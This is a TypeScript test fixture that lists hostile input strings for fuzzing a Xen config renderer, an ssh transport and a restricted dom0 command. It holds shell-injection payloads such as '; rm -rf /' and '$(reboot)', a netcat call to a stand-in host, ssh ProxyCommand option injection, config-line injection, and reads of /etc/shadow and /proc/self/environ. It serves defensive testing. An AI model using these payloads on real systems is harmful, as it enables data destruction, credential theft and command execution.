// The hostile corpus: values a user, a compromised variable or a copied snippet could put into any string attribute.
// The xl.cfg part was the renderer's corpus (test/unit/xen/render.test.ts); the rest aims at the ssh transport and the
// restricted dom0 command: shell syntax, option injection into ssh or a dom0 tool, path traversal, line breaks.

export const XLCFG_PAYLOADS = [
  'a\nb', 'a\r\nname = "evil"', 'a"b', '"\nkernel = "/evil', "a'b", 'a,b', 'a=b', 'backend=evil', 'a]b', 'a[b', '"]\nextra = ["',
  '$(reboot)', '`id`', 'a;b', 'a#b', 'a b', 'a\tb', 'a\\b', 'a\\"b', 'a\0b', 'x'.repeat(5000), 'ünïcödé', '\u2028', '日本',
  '', ' ', ',target=/etc/shadow', 'xvda,access=rw', '0000:00:05.0,permissive=1', '../../../etc/passwd', '/a/../b', '-F',
];

export const SHELL_PAYLOADS = [
  '; rm -rf /', '&& id', '| nc evil 1', '> /etc/passwd', '< /etc/shadow', '$(id)', '${IFS}id', '`reboot`', "'; id; '", '"; id; "',
  '\nid', 'a\n--', '\\', '*', '?', '[a-z]', '~root', '{a,b}', '#comment', '&', 'a&&b',
  '-oProxyCommand=sh -c id', '-o ProxyCommand=sh', '-F/tmp/evil', '-J evil', '--', '-', '-rf', '--help', '-n',
  '..', '../x', 'a/../../etc/shadow', '/etc/shadow', '/proc/self/environ', 'x\0y', '\x1b[2J', 'é', '\u0000',
];

export const HOSTILE_STRINGS = [...XLCFG_PAYLOADS, ...SHELL_PAYLOADS];
